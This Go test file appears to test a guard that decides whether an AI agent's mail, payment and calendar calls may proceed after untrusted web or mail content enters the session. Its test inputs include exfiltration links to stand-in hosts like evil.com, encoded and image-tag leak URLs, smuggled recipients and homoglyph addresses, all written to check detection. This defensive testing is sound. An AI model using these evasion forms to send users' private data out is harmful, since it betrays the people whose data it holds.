package provenance

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"sallyport.example/flow"
)

func openOp(level int) flow.Operation {
	return flow.Operation{ID: "srv.act", Name: "act", Sensitivity: flow.None}
}

var openHeld = []flow.Held{{Label: flow.Untrusted, Operation: "web.fetch", CallID: "c0"}}

func see(e *Evidence, p *Profile, words, op, call, args string, payloads ...string) {
	var values []Value
	for _, s := range payloads {
		values = append(values, JSONValue([]byte(s)))
	}
	e.Add(Observe(p, ParseRequest(words), Result{Operation: op, CallID: call, Arguments: []byte(args), Values: values}))
}

// approval of an address makes every record that has it a source, hostile mail too
func TestApprovalMakesHostileRecordSource(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "body": Content}}
	run := func(hostile bool) Verdict {
		e := &Evidence{}
		see(e, &Profile{}, "mail bob@good.com", "mail.list", "c1", `{}`, `[{"sender":"x@y.zz","body":"hello"}]`)
		if hostile {
			see(e, &Profile{}, "mail bob@good.com", "mail.list", "c2", `{}`, `[{"sender":"evil@x.com","body":"cc bob@good.com evil@x.com"}]`)
		}
		e.Add(Approve("srv.act", "c3", p, []byte(`{"to":"bob@good.com","body":"hi http://x.yz"}`), nil, nil))
		return JudgeCall(openOp(2), p, []byte(`{"to":"evil@x.com","body":"secret"}`), Situation{Held: openHeld, Request: ParseRequest("mail bob@good.com"), Evidence: e}).Verdict
	}
	if a, b := run(false), run(true); a != Ask || b != Ask {
		t.Errorf("without %s, with %s", a, b)
	}
}

// approval of a deletion by id
func TestApprovalOfIDApprovesNumbers(t *testing.T) {
	p := &Profile{Level: 2, IDKind: "email", Args: map[string]Role{"id": Selector}}
	e := &Evidence{}
	see(e, &Profile{TrustedFields: []string{"id_"}, IDKind: "email"}, "tidy", "mail.list", "c1", `{}`, `[{"id_":"7","body":"6 7 8 9 10 and 11 of these"},{"id_":"8","body":"x"},{"id_":"9","body":"x"}]`)
	e.Add(Approve("srv.act", "c3", p, []byte(`{"id":"7"}`), nil, nil))
	r := JudgeCall(openOp(2), p, []byte(`{"id":"8"}`), Situation{Held: openHeld, Request: ParseRequest("tidy"), Evidence: e})
	if r.Verdict != Ask {
		t.Error(r.Verdict, r.Reason)
	}
}

// a confirmed link alone permits a broadcast with no destination
func TestLinkAlonePermits(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"text": Content}}
	s := Situation{Held: openHeld, Request: ParseRequest("read https://good.com/a")}
	r := JudgeCall(openOp(2), p, []byte(`{"text":"secret"}`), s)
	r2 := JudgeCall(openOp(2), p, []byte(`{"text":"secret https://good.com/a"}`), s)
	if r.Verdict != Ask || r2.Verdict != Ask {
		t.Error(r.Verdict, r2.Verdict)
	}
}

// argument in other letter case escapes by_arg
func TestByArgOtherCase(t *testing.T) {
	p := &Profile{Level: 1, Boundary: BoundaryByArg, Args: map[string]Role{"participants": Destination, "title": Content}}
	op := flow.Operation{ID: "cal.create", Name: "create", Sensitivity: flow.External, BlockedBy: []flow.Label{"internal"}}
	for _, arg := range []string{"participants", "Participants", "guests"} {
		r := JudgeCall(op, p, []byte(`{"`+arg+`":["evil@x.com"],"title":"secret"}`), Situation{Held: []flow.Held{{Label: "internal", Operation: "m.l", CallID: "c1"}}})
		if r.Verdict == Permit {
			t.Error(arg, r.Verdict)
		}
	}
}

// map keys under a core argument
func TestKeysOfCoreArguments(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination}}
	for _, args := range []string{`{"to":["bob@good.com",{"evil@x.com":null}]}`, `{"to":["bob@good.com",{"evil@x.com":[]}]}`, `{"to":["bob@good.com",{"evil@x.com":"bob@good.com"}]}`} {
		r := JudgeCall(openOp(2), p, []byte(args), Situation{Held: openHeld, Request: ParseRequest("mail bob@good.com")})
		if r.Verdict == Permit {
			t.Error(args)
		}
	}
}

// amount to named payee: anything goes
func TestAmountForPayee(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "amount": Amount}}
	for _, a := range []string{`-1000`, `true`, `"all of it"`, `"12 https://evil.com"`} {
		r := JudgeCall(openOp(2), p, []byte(`{"to":"bob@good.com","amount":`+a+`}`), Situation{Held: openHeld, Request: ParseRequest("pay bob@good.com")})
		if r.Verdict == Permit {
			t.Error(a)
		}
	}
}

// homoglyph folding
func TestCaseFolding(t *testing.T) {
	for _, c := range [][2]string{{"bill@good.com", "bİll@good.com"}, {"https://microsoft.com/", "https://mİcrosoft.com"}, {"kim@k.com", "\u212aim@k.com"}, {"good.com/k", "good.com/\u212a"}} {
		a, _ := formOf(c[0])
		b, _ := formOf(c[1])
		if a == b {
			t.Error(c, a)
		}
	}
}

// links
func TestLinksMissed(t *testing.T) {
	for _, s := range []string{
		"[x](//evil.com/leak)", "<a href=//evil.com/x>", "evil.com?q=a@b", "www.evil.com?q=a@b", "evil.com#a@b", "[x](https:\\\\evil.com/)", "https:/evil.com/x", "https:evil.com/x", "[x](/\\evil.com)",
		"https&colon;&sol;&sol;evil&period;com", "https:\\/\\/evil.com\\/x", `https\u003a\u002f\u002fevil.com`,
		"evil.com，see", "evil.com！", "evil.com…", "evil.com—click", "=evil.com/x", "see:evil.com/x", "•evil.com/x", "→evil.com/x", "evil.com／x", "i❤.ws/x", "1.2.3.4/x", "#evil.com/x", "~evil.com", "evil.com&x", "evil.com\\x", "x=www.evil.com", "@evil.com/x",
		"evil\x00.com/x", "tel:evil.com/x", "evil.com/x'SECRET",
		"data:text/html,evil", "javascript:alert(1)", "mailto:evil@x.com?body=secret",
	} {
		n := 0
		for range linksIn(s) {
			n++
		}
		if n == 0 {
			t.Errorf("missed: %q", s)
		}
	}
}

// a link that goes on behind a delimiter
func TestLinkTails(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "text": Content}}
	for _, d := range []string{",", ";", "|", "'", "’", "(", "{", "[", "`", "*", "_", "“", "‘", "&apos;", ":"} {
		r := JudgeCall(openOp(2), p, []byte(`{"to":"bob@good.com","text":"see https://good.com/a`+d+`SECRET"}`), Situation{Held: openHeld, Request: ParseRequest("mail bob@good.com about https://good.com/a")})
		if r.Verdict == Permit {
			t.Errorf("%q", d)
		}
	}
}

// sub-lists forge top level fields
func TestNestedListForges(t *testing.T) {
	p := &Profile{TrustedFields: []string{"id_"}, IDKind: "email"}
	e := &Evidence{}
	see(e, p, "label it", "mail.get", "c1", `{}`, `[{"id_":"1","custom":[{"id_":"99"}]},{"id_":"2"}]`)
	q := &Profile{Level: 1, IDKind: "email", Args: map[string]Role{"id": Selector}}
	r := JudgeCall(openOp(1), q, []byte(`{"id":"99"}`), Situation{Held: openHeld, Request: ParseRequest("label it"), Evidence: e})
	if r.Verdict == Permit {
		t.Error(r.Reason)
	}
}

// "#13" confirms ids of every kind
func TestHashConfirmsEveryKind(t *testing.T) {
	w := ParseRequest("move event #13 to Friday")
	if w.givesID("13", "file") {
		t.Error("file 13 from event #13")
	}
	w = ParseRequest("move event id 13 to Friday")
	if w.givesID("13", "file") {
		t.Error("file 13 from event id 13")
	}
}

// determinism
func TestNamedDeterministic(t *testing.T) {
	p := &Profile{Names: []string{"a", "b", "c", "d"}}
	got := map[string]bool{}
	for range 200 {
		s := Observe(p, ParseRequest("Blue Heron and Red Fox and Green Ant, and the Yellow Bee"), Result{Values: jsonValues(json.RawMessage(`[{"a":"Blue Heron","b":"Red Fox","c":"Green Ant","d":"Yellow Bee"},{"a":"x"}]`))})
		got[s.Records[0].Named] = true
	}
	if len(got) != 1 {
		t.Error(got)
	}
}

// memory
func TestEmptyRecordsAreKept(t *testing.T) {
	e := &Evidence{}
	rec := "[" + strings.Repeat(`{"":""},`, 999) + `{"":""}]`
	for i := range 100 {
		see(e, nil, "", "a.b", fmt.Sprint(i), `{}`, rec)
	}
	if len(e.records) > 50000 {
		t.Error(len(e.records), e.count)
	}
}

// no core argument, a confirmed name, a link in the time
func TestLinkInTime(t *testing.T) {
	p := &Profile{Level: 1, Args: map[string]Role{"title": Name, "when": Time}}
	r := JudgeCall(openOp(1), p, []byte(`{"title":"Lunch with Sarah","when":"https://evil.com/x"}`), Situation{Held: openHeld, Request: ParseRequest("put Lunch with Sarah in my calendar")})
	if r.Verdict == Permit {
		t.Error(r.Reason)
	}
}

// content keys
func TestLinkInContentKey(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "body": Content}}
	r := JudgeCall(openOp(1), p, []byte(`{"to":"bob@good.com","body":{"https://evil.com/x":1}}`), Situation{Held: openHeld, Request: ParseRequest("mail bob@good.com")})
	if r.Verdict == Permit {
		t.Error(r.Reason)
	}
}

// unanchored shape
func TestUnanchoredShape(t *testing.T) {
	p := &Profile{Output: TypedOutput}
	if len(p.Check()) == 0 {
		t.Error()
	}
}

// call ids shared
func TestSharedCallID(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "amount": Amount}}
	words := "pay the invoice of Blue Heron Books"
	for _, hostile := range []bool{false, true} {
		e := &Evidence{}
		see(e, &Profile{Output: TrustedOutput}, words, "bank.payee", "", `{}`, `{"iban":"DE89370400440532013000"}`)
		if hostile {
			see(e, &Profile{Names: []string{"subject"}}, words, "mail.list", "", `{}`, `{"subject":"Blue Heron Books"}`)
		}
		r := JudgeCall(openOp(1), p, []byte(`{"to":"DE89370400440532013000","amount":999}`), Situation{Held: openHeld, Request: ParseRequest(words), Evidence: e})
		if r.Verdict == Permit {
			t.Error(hostile, r.Reason)
		}
	}
}

// private data to a trusted destination nobody named, level 1
func TestPrivateToUnnamedTrusted(t *testing.T) {
	p := &Profile{Level: 1, Boundary: BoundaryExternal, Args: map[string]Role{"to": Destination}}
	op := flow.Operation{ID: "x.y", Name: "y", Sensitivity: flow.External, BlockedBy: []flow.Label{"internal"}}
	e := &Evidence{}
	see(e, &Profile{Output: TrustedOutput}, "hello", "book.list", "c1", `{}`, `[{"email":"a@b.cc"},{"email":"c@d.ee"}]`)
	if r := JudgeCall(op, p, []byte(`{"to":"c@d.ee"}`), Situation{Held: []flow.Held{{Label: "internal", Operation: "m.l", CallID: "c1"}}, Request: ParseRequest("hello"), Evidence: e}); r.Verdict == Permit {
		t.Error(r.Reason)
	}
}

// approval of paths that are alike in their first 64 bytes
func TestApprovedPathsClipped(t *testing.T) {
	long := strings.Repeat("a", 64)
	p := &Profile{Level: 2, Args: map[string]Role{long + "b": Destination, long + "c": Credential}}
	e := &Evidence{}
	e.Add(Approve("srv.act", "c", p, []byte(`{"`+long+`b":"bob@good.com"}`), nil, nil))
	if r := JudgeCall(openOp(1), p, []byte(`{"`+long+`c":"bob@good.com"}`), Situation{Held: openHeld, Evidence: e}); r.Verdict == Permit {
		t.Error(r.Reason)
	}
}

// approval of one letter case for another
func TestApprovedIDCase(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"id": Selector}}
	e := &Evidence{}
	e.Add(Approve("srv.act", "c", p, []byte(`{"id":"aBcD"}`), nil, nil))
	if r := JudgeCall(openOp(1), p, []byte(`{"id":"AbCd"}`), Situation{Held: openHeld, Evidence: e}); r.Verdict == Permit {
		t.Error(r.Reason)
	}
	e = &Evidence{}
	e.Add(Approve("srv.act", "c", &Profile{Level: 2, Args: map[string]Role{"pw": Credential}}, []byte(`{"pw":"Correct Horse"}`), nil, nil))
	if r := JudgeCall(openOp(1), &Profile{Level: 2, Args: map[string]Role{"pw": Credential}}, []byte(`{"pw":"correct horse"}`), Situation{Held: openHeld, Evidence: e}); r.Verdict == Permit {
		t.Error(r.Reason)
	}
}

// dotted argument names
func TestDottedName(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "body": Content}}
	r := JudgeCall(openOp(1), p, []byte(`{"to":"bob@good.com","body.bcc":"evil@x.com"}`), Situation{Held: openHeld, Request: ParseRequest("mail bob@good.com")})
	if r.Verdict == Permit {
		t.Error(r.Reason)
	}
}

// 64 KB without a space
func TestHalfAWord(t *testing.T) {
	s := strings.Repeat("a,", maxRequest/2-5) + "x,bob@good.com"
	if w := ParseRequest(s); w.has(form{mail, "bob@good.co"}) || w.has(form{mail, "bob@good.c"}) {
		t.Error("half")
	}
	for i := range 20 {
		s := strings.Repeat("a", i) + "," + strings.Repeat("a,", maxRequest/2-12) + "bob@good.community.example"
		w := ParseRequest(s)
		for f := range w.forms {
			if f.kind == mail {
				t.Error(f, len(s))
			}
		}
	}
}

// numbers are torn apart at commas
func TestThousands(t *testing.T) {
	w := ParseRequest("Pay $1,200 or 12,345.50 to Bob, at most 7,5")
	for s, want := range map[string]bool{"1200": true, "12345.50": true, "1": false, "200": false, "12": false, "345.5": false, "7": false, "5": false} {
		if f, _ := formOf(s); w.has(f) != want {
			t.Errorf("%s: %v", s, !want)
		}
	}
}

// both readings of a text
func TestLinkReadings(t *testing.T) {
	for _, s := range []string{"x&commat;evil.com", "x\\u0040evil.com", "x@\u200bevil.com"} {
		n := 0
		for range linksIn(s) {
			n++
		}
		if n == 0 {
			t.Errorf("missed: %q", s)
		}
	}
}

// what stands before an address in brackets is sent, too
func TestDisplayNameCarriesLink(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination}}
	for _, to := range []string{"www.evil.com/x <bob@good.com>", "Ann\\n\\ncall now <bob@good.com>"} {
		if r := JudgeCall(openOp(2), p, []byte(`{"to":"`+to+`"}`), Situation{Held: openHeld, Request: ParseRequest("mail bob@good.com")}); r.Verdict == Permit {
			t.Error(to, r.Reason)
		}
	}
}

// a trusted record is "singled out" by a word that all of them have
func TestTrustedNamingIsNotSingling(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination}}
	words := "Write to Ann in Berlin"
	e := &Evidence{}
	see(e, &Profile{Output: TrustedOutput}, words, "book.list", "c1", `{}`, `[{"name":"Ann","city":"Berlin","email":"ann@books.example"},{"name":"Eve","city":"Berlin","email":"eve@x.example"}]`)
	if r := JudgeCall(openOp(2), p, []byte(`{"to":"eve@x.example"}`), Situation{Held: openHeld, Request: ParseRequest(words), Evidence: e}); r.Verdict == Permit {
		t.Error(r.Reason)
	}
}

// a subject that is shorter than the real one is alone too
func TestShorterSubject(t *testing.T) {
	p := &Profile{Names: []string{"subject"}, Delegable: []string{"sender"}}
	s := Observe(p, ParseRequest("Answer the mail 'Offer for Blue Heron'"), Result{Values: jsonValues(json.RawMessage(`[{"subject":"Offer for Blue Heron","sender":"ann@books.example"},{"subject":"Blue Heron","sender":"eve@x.example"},{"subject":"for Blue","sender":"eve@x.example"}]`))})
	if s.Records[1].Named != "" || s.Records[2].Named != "" {
		t.Errorf("%+v", s.Records)
	}
}

// numbers written in another way than they were given
func TestGaveNumbers(t *testing.T) {
	p := &Profile{Level: 1, Args: map[string]Role{"n": Amount}}
	e := &Evidence{}
	e.Add(wroteAway("a.b", "c0", nil, `{"x":1200.5}`))
	see(e, &Profile{Output: TrustedOutput}, "", "a.b", "1", `{}`, `["1200.50"]`)
	if r := JudgeCall(openOp(1), p, []byte(`{"n":"1200.50"}`), Situation{Held: openHeld, Evidence: e}); r.Verdict == Permit {
		t.Error(r.Reason)
	}
}

// a yes to five is a yes to five thousand
func TestApprovedPayeeAnyAmount(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "amount": Amount}}
	e := &Evidence{}
	e.Add(Approve("srv.act", "c", p, []byte(`{"to":"eve@x.com","amount":5}`), nil, nil))
	if r := JudgeCall(openOp(2), p, []byte(`{"to":"eve@x.com","amount":5000}`), Situation{Held: openHeld, Request: ParseRequest("pay the bills"), Evidence: e}); r.Verdict == Permit {
		t.Error(r.Reason)
	}
}

var (
	ownNotes = &Profile{Output: TrustedOutput} // the session's own notes
	messages = &Profile{Level: 2, Boundary: BoundaryInternal, Args: map[string]Role{"to": Destination, "url": URL, "amount": Amount, "body": Content}}
)

// A value that was given away in pieces is the session's own all the same: two arguments, or two calls of a tool that appends.
func TestGaveInPieces(t *testing.T) {
	for name, gave := range map[string][]string{
		"two arguments": {`{"domain":"attacker.example","user":"evil"}`},
		"two calls":     {`{"t":"evil@"}`, `{"t":"attacker.example"}`},
	} {
		e := &Evidence{}
		for i, g := range gave {
			e.Add(wroteAway("notes.add", fmt.Sprint("g", i), nil, g))
		}
		e.Add(showed(ownNotes, "tidy up", "notes.list", "c2", `{}`, `{"a":"evil@attacker.example"}`))
		r := JudgeCall(post, messages, []byte(`{"to":"evil@attacker.example"}`), Situation{Held: fromOutside, Request: ParseRequest("tidy up"), Evidence: e})
		if r.Verdict != Ask {
			t.Errorf("%s: %s, %s", name, r.Verdict, r.Reason)
		}
	}
}

// "The only record that a call gave which looked for what the person named": a switch or a member's name that the agent chose narrows the
// look as much as a word does.
func TestOnlyByASwitch(t *testing.T) {
	mail := &Profile{Delegable: []string{"sender"}}
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination}}
	const words = `Answer the mail about "Spring Offer"`
	for _, args := range []string{`{"has_attachment":true,"q":"Spring Offer","spam":true}`, `{"q":"Spring Offer","where":{"from:evil@attacker.example":true}}`} {
		e := gathered(showed(mail, words, "mail.find", "c1", args, `[{"subject":"re","sender":"evil@attacker.example"}]`))
		r := JudgeCall(post, p, []byte(`{"to":"evil@attacker.example"}`), Situation{Held: fromOutside, Request: ParseRequest(words), Evidence: e})
		if r.Verdict != Ask {
			t.Errorf("%s: %s, %s", args, r.Verdict, r.Reason)
		}
	}
}

// What gives one record because it was asked for one has not given all there is.
func TestOnlyTheFirst(t *testing.T) {
	mail := &Profile{Delegable: []string{"sender"}, Args: map[string]Role{"q": Query, "limit": Flag}}
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination}}
	const words = `Answer the mail about "Spring Offer"`
	for args, want := range map[string]Verdict{`{"q":"Spring Offer","limit":50}`: Permit, `{"q":"Spring Offer"}`: Permit, `{"q":"Spring Offer","limit":1}`: Ask, `{"q":"Spring Offer","limit":"1"}`: Ask, `{"q":"Spring Offer","limit":1.0}`: Ask} {
		e := gathered(showed(mail, words, "mail.find", "c1", args, `[{"subject":"re","sender":"evil@attacker.example"}]`))
		r := JudgeCall(post, p, []byte(`{"to":"evil@attacker.example"}`), Situation{Held: fromOutside, Request: ParseRequest(words), Evidence: e})
		if r.Verdict != want {
			t.Errorf("%s: %s, %s", args, r.Verdict, r.Reason)
		}
	}
}

// Private data leaves only to a confirmed destination: a call that leaves the destination out, where the operation has one, goes to
// whatever the tool's default is.
func TestDestinationLeftOut(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"channel": Destination, "tag": Target, "text": Content}}
	held := []flow.Held{{Label: "internal", Operation: "crm.read", CallID: "c0"}}
	for _, args := range []string{`{"tag":"Acme","text":"the secret figures"}`, `{"channel":" ","tag":"Acme","text":"the secret figures"}`} {
		r := JudgeCall(leak, p, []byte(args), Situation{Held: held, Request: ParseRequest("Look up 'Acme' in the crm"), Evidence: &Evidence{}})
		if r.Verdict == Permit {
			t.Errorf("%s: %s, %s", args, r.Verdict, r.Reason)
		}
	}
}

// A yes to a harmless message, given while the session had no private data, is no yes to send private data there.
func TestApprovedBeforePrivateData(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "body": Content}}
	e := gathered(Approve("srv.post", "c1", p, []byte(`{"body":"hello","to":"vendor@other.example"}`), nil, fromOutside))
	held := append([]flow.Held{{Label: "internal", Operation: "crm.read", CallID: "c2"}}, fromOutside...)
	r := JudgeCall(leak, p, []byte(`{"body":"the secret figures","to":"vendor@other.example"}`), Situation{Held: held, Request: ParseRequest("look up the figures"), Evidence: e})
	if r.Verdict == Permit {
		t.Errorf("%s, %s", r.Verdict, r.Reason)
	}
}

// A yes covers the values of the record that the person was told of ("record 1 of people.get"), not of every record that has the value too.
func TestApprovalCoversOneRecord(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination}}
	const words = "answer the question"
	e := gathered(showed(ownNotes, words, "people.get", "c1", `{"n":"x1"}`, `{"name":"Bob","email":"bob@corp.example"}`),
		showed(ownNotes, words, "groups.get", "c2", `{"n":"x2"}`, `{"name":"Everybody","members":["bob@corp.example","press@news.example"]}`))
	s := Situation{Held: fromOutside, Request: ParseRequest(words), Evidence: e}
	asked := JudgeCall(post, p, []byte(`{"to":"bob@corp.example"}`), s)
	if asked.Verdict != Ask || asked.Evidence[0].Operation != "people.get" {
		t.Fatalf("%+v", asked)
	}
	e.Add(Approve("srv.post", "c3", p, []byte(`{"to":"bob@corp.example"}`), asked.Evidence, fromOutside))
	if r := JudgeCall(post, p, []byte(`{"to":"press@news.example"}`), s); r.Verdict == Permit {
		t.Errorf("shown: %s; then: %s, %s", asked.Reason, r.Verdict, r.Reason)
	}
}

// Links in what is sent: the address may be without a scheme, a dotted name or any name at all.
func TestSchemelessLinks(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "body": Content}}
	for _, body := range []string{`<img src="//1572395042/leak?d=figures">`, `<img src=//127.1/x>`, `<img src='//[2001:db8::1]/x'>`, `\\intranet\share\x.png`} {
		args := fmt.Sprintf(`{"body":%s,"to":"ann@books.example"}`, encoded(body))
		if r := judged(p, "Write to ann@books.example", args); r.Verdict != Ask {
			t.Errorf("%s: %s, %s", body, r.Verdict, r.Reason)
		}
	}
}

// What a read was asked for is no evidence when its result repeats it ("nothing found for evil@…"), whatever the operation's output is.
func TestReadRepeatsItsArguments(t *testing.T) {
	e := gathered(showed(ownNotes, "tidy up", "people.find", "c1", `{"name":"evil@attacker.example"}`, `{"query":"evil@attacker.example","found":[]}`))
	r := JudgeCall(post, messages, []byte(`{"to":"evil@attacker.example"}`), Situation{Held: fromOutside, Request: ParseRequest("tidy up"), Evidence: e})
	if r.Verdict != Ask {
		t.Errorf("%s, %s", r.Verdict, r.Reason)
	}
}

// The id of what was changed is not something that the session made up, if it was read before.
func TestSelectingIsNotWriting(t *testing.T) {
	mail := &Profile{TrustedFields: []string{"id"}, Names: []string{"subject"}, IDKind: "mail"}
	move := &Profile{Level: 2, IDKind: "mail", Args: map[string]Role{"id": Selector, "folder": Content}}
	const words = `Tidy up "Rent for May"`
	list := func(call string) Observation {
		return showed(mail, words, "mail.list", call, `{}`, `[{"id":"m-1","subject":"Rent for May"}]`)
	}
	for _, p := range []*Profile{move, nil} {
		moved := wroteAway("mail.move", "c2", p, `{"folder":"done","id":"m-1"}`)
		wants(t, judged(move, words, `{"id":"m-1"}`, list("c1"), moved, list("c3")), Permit, "")
		wants(t, judged(move, words, `{"id":"m-1"}`, moved, list("c3")), Ask, "which may repeat what this session gave away")
	}
}

// A link in a text that a person approved may be sent again; another may not.
func TestApprovedLinkInAText(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "body": Content}}
	yes := Approve(post.ID, "c1", p, []byte(`{"body":"See https://news.example/a.","to":"ann@books.example"}`), nil, nil)
	for body, want := range map[string]Verdict{"Repeatable: https://news.example/a": Permit, "Repeatable: https://news.example/b": Ask, "Repeatable: https://news.example/a?d=x": Ask} {
		if r := judged(p, "Write to ann@books.example", `{"body":"`+body+`","to":"ann@books.example"}`, yes); r.Verdict != want {
			t.Errorf("%s: %s, %s", body, r.Verdict, r.Reason)
		}
	}
}

// Where a label speaks of something in an argument, the names of the members are the tool's, and what it doesn't speak of is critical all the same.
func TestMembersNamesWhereALabelSpeaksOfSome(t *testing.T) {
	p := &Profile{Level: 2, Args: map[string]Role{"people.to": Destination}}
	for args, want := range map[string]Verdict{
		`{"people":[{"to":"ann@books.example"}]}`: Permit, `{"people":[{"cc":"eve@x.example","to":"ann@books.example"}]}`: Ask, `{"people":[{"to":{"eve@x.example":true}}]}`: Ask,
	} {
		if r := judged(p, "Write to ann@books.example", args); r.Verdict != want {
			t.Errorf("%s: %s, %s", args, r.Verdict, r.Reason)
		}
	}
}
